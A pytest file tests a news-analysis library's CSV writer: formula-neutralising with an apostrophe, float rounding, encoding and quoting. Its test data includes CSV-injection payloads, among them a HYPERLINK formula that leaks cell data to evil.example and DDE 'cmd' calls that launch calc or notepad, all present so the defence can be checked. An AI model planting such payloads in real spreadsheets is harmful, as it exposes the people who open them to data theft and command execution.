"""Tests for lib/newslens/io.py: tables that are byte-stable and safe to open in a spreadsheet.

OWASP's "CSV injection" advice: a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or
carriage return is read as a formula by Excel, LibreOffice and Google Sheets, so every such
text cell is prefixed with ``'``. Numbers are numbers: a negative score is never touched.
"""
from __future__ import annotations

import csv
import io
import math

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newslens import pipeline
from newslens.io import FORMULA_PREFIXES, neutralise_formula, read_table, tidy_for_csv, write_table

# --------------------------------------------------------------------------- neutralise_formula


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://evil.example\",\"click\")", "'=HYPERLINK(\"http://evil.example\",\"click\")"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("-", "'-"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "'-5"),              # text that looks like a number is still text
    ("Idlib", "Idlib"),
    ("", ""),
    ("a=b", "a=b"),              # only the first character matters
    ("'=already", "'=already"),  # idempotent: an apostrophe is not a formula prefix
    ("\u2212 5", "\u2212 5"),    # U+2212 minus sign is not read as a formula
])
def test_neutralise_formula_text(value, expected):
    assert neutralise_formula(value) == expected


@pytest.mark.parametrize("value", [-1.5, -3, 0, np.float64(-2.25), np.int64(-7), None, True,
                                   float("nan")])
def test_neutralise_formula_leaves_non_text_alone(value):
    out = neutralise_formula(value)
    assert out is value or (isinstance(value, float) and math.isnan(out))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_neutralised_text_never_starts_a_formula_and_is_idempotent(text):
    once = neutralise_formula(text)
    assert not once.startswith(FORMULA_PREFIXES)
    assert neutralise_formula(once) == once
    assert once in (text, "'" + text)


# --------------------------------------------------------------------------- write_table


def written(df: pd.DataFrame, tmp_path, **kw) -> str:
    path = write_table(df, tmp_path / "t.csv", **kw)
    return path.read_bytes().decode("utf-8")


def test_floats_are_rounded_to_six_places_by_hand(tmp_path):
    x = [1 / 3, 2 / 3, -2.5, 1e-7, -1e-9, float("nan"), 123456.1234565, 1.5e300]
    df = pd.DataFrame({"i": range(len(x)), "x": x})
    # 1/3 = 0.3333333… -> 0.333333; 2/3 = 0.6666666… -> 0.666667 (rounded up);
    # 1e-7 -> 0.000000; -1e-9 rounds to -0.0, written as 0.000000 (never "-0.000000");
    # NaN -> empty cell; 123456.1234565 -> 123456.123456 or .123457 (binary float), 6 places;
    # 1.5e300 has no fraction: kept (rounding it would overflow to inf)
    cells = [line.split(",")[1] for line in written(df, tmp_path).split("\n")[1:-1]]
    assert cells[:6] == ["0.333333", "0.666667", "-2.500000", "0.000000", "0.000000", ""]
    assert cells[6] in {"123456.123456", "123456.123457"}
    assert float(cells[7]) == 1.5e300 and cells[7].endswith(".000000")


def test_carriage_return_inside_a_cell_does_not_split_the_row(tmp_path):
    df = pd.DataFrame({"t": ["a\rb", "c\r\nd", "\r=1+1"], "n": [1, 2, 3]})
    with open(write_table(df, tmp_path / "t.csv"), encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["t", "n"], ["a\nb", "1"], ["c\nd", "2"], ["'\n=1+1", "3"]]


def test_negative_numbers_are_numbers_and_text_is_neutralised(tmp_path):
    df = pd.DataFrame({"term": ["-ism", "=x", "+y", "@z", "ok"],
                       "score": [-1.25, -0.5, 0.0, 2.0, -3.0],
                       "count": [-1, -2, 3, 4, 5]})
    rows = list(csv.reader(io.StringIO(written(df, tmp_path))))
    assert rows[0] == ["term", "score", "count"]
    assert [r[0] for r in rows[1:]] == ["'-ism", "'=x", "'+y", "'@z", "ok"]
    assert [r[1] for r in rows[1:]] == ["-1.250000", "-0.500000", "0.000000", "2.000000", "-3.000000"]
    assert [r[2] for r in rows[1:]] == ["-1", "-2", "3", "4", "5"]


def test_object_columns_with_numbers_are_rounded_not_neutralised(tmp_path):
    df = pd.DataFrame({"v": pd.Series([-0.1234567891, "-x", 7, -1e-12, None], dtype=object)})
    rows = [r[0] for r in csv.reader(io.StringIO(written(df, tmp_path)))]
    # -0.1234567891 -> -0.123457; -1e-12 -> -0.0 -> 0.0; 7 stays an integer
    assert rows == ["v", "-0.123457", "'-x", "7", "0.0", ""]


def test_pandas_string_and_nullable_dtypes(tmp_path):
    df = pd.DataFrame({"s": pd.Series(["=a", "b", None], dtype="string"),
                       "f": pd.Series([0.1234567, None, -1e-10], dtype="Float64"),
                       "i": pd.Series([-1, None, 2], dtype="Int64")})
    rows = list(csv.reader(io.StringIO(written(df, tmp_path))))
    assert rows[1:] == [["'=a", "0.123457", "-1"], ["b", "", ""], ["", "0.000000", "2"]]


def test_file_format_utf8_unix_newlines_and_quoting(tmp_path):
    df = pd.DataFrame({"doc_id": ["b", "a"],
                       "text": ["line one\nline two, with \"quotes\"", "İstanbul ılımlı"]})
    raw = write_table(df, tmp_path / "t.csv", sort_by=["doc_id"]).read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM
    assert b"\r\n" not in raw
    assert raw.decode("utf-8") == ('doc_id,text\na,İstanbul ılımlı\n'
                                   'b,"line one\nline two, with ""quotes"""\n')
    back = read_table(tmp_path / "t.csv")
    assert back["text"].tolist() == ["İstanbul ılımlı", "line one\nline two, with \"quotes\""]


def test_sort_is_stable_and_input_is_not_modified(tmp_path):
    df = pd.DataFrame({"k": [2, 1, 2, 1], "v": ["a", "b", "c", "d"]})
    before = df.copy()
    out = tidy_for_csv(df, sort_by=["k"])
    assert out["v"].tolist() == ["b", "d", "a", "c"]  # ties keep their order (mergesort)
    pd.testing.assert_frame_equal(df, before)


def test_unpaired_surrogates_do_not_stop_the_writer(tmp_path):
    df = pd.DataFrame({"t": ["ok \ud800 here"]})
    assert written(df, tmp_path).split("\n")[1] == "ok \ufffd here"


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5),
       st.lists(st.floats(allow_nan=False, allow_infinity=False, width=64), min_size=1, max_size=5))
def test_any_text_round_trips_neutralised(tmp_path_factory, texts, numbers):
    n = min(len(texts), len(numbers))
    df = pd.DataFrame({"text": texts[:n], "x": numbers[:n]})
    path = write_table(df, tmp_path_factory.mktemp("w") / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert len(rows) == n
    for (cell, num), text, x in zip(rows, texts, numbers):
        assert cell == neutralise_formula(text).replace("\r\n", "\n").replace("\r", "\n")
        assert not cell.startswith(FORMULA_PREFIXES)
        assert abs(float(num) - x) <= 5e-7 * max(1.0, abs(x)) + 1e-12
        assert not num.startswith("'")  # numbers are never prefixed


# --------------------------------------------------------------------------- every table the pipeline writes

PAYLOADS = {
    "title": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "outlet": "@evil-outlet",
    "line": "+cmd|' /C calc'!A0",
    "quote": "-2+3+cmd|' /C notepad'!A0",
}


def _formula_corpus(tmp_path):
    """Articles whose titles, outlets, paragraphs and quotes start with formula characters."""
    rows = []
    for i in range(6):
        text = (f"{PAYLOADS['line']} opens paragraph one of article {i}.\n\n"
                f"=SUM(1,2) was scrawled on a wall in the city, residents said on Tuesday.\n\n"
                f"\"{PAYLOADS['quote']}\" said the foreign minister in a statement.\n\n"
                f"@UN officials said aid convoys had been delayed for a third week.\n\n"
                "-- The talks are expected to resume after the regional summit next week.")
        rows.append({"id": f"d{i}", "outlet": PAYLOADS["outlet"] if i % 2 else "-Minus News",
                     "title": PAYLOADS["title"] if i == 0 else f"-Minus title {i}", "text": text})
    path = tmp_path / "formulas.jsonl"
    pd.DataFrame(rows).to_json(path, orient="records", lines=True, force_ascii=False)
    return path


def test_every_table_the_pipeline_writes_is_formula_safe(tmp_path):
    out = tmp_path / "out"
    result = pipeline.run_pipeline(_formula_corpus(tmp_path), out)  # every stage
    assert result.written
    n_cells = 0
    for path in sorted(result.written):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    n_cells += 1
                    if cell.startswith(FORMULA_PREFIXES):
                        # allowed only when it is a number (a negative score, a count)
                        try:
                            float(cell)
                        except ValueError:
                            pytest.fail(f"{path.name}: formula cell {cell[:60]!r}")
    assert n_cells > 100
    articles = read_table(out / "articles.csv").set_index("doc_id")
    assert articles.loc["d0", "title"] == "'" + PAYLOADS["title"]
    assert articles.loc["d1", "outlet"] == "'" + PAYLOADS["outlet"]
    assert articles.loc["d0", "outlet"] == "'-Minus News"
    assert articles.loc["d2", "title"] == "'-Minus title 2"
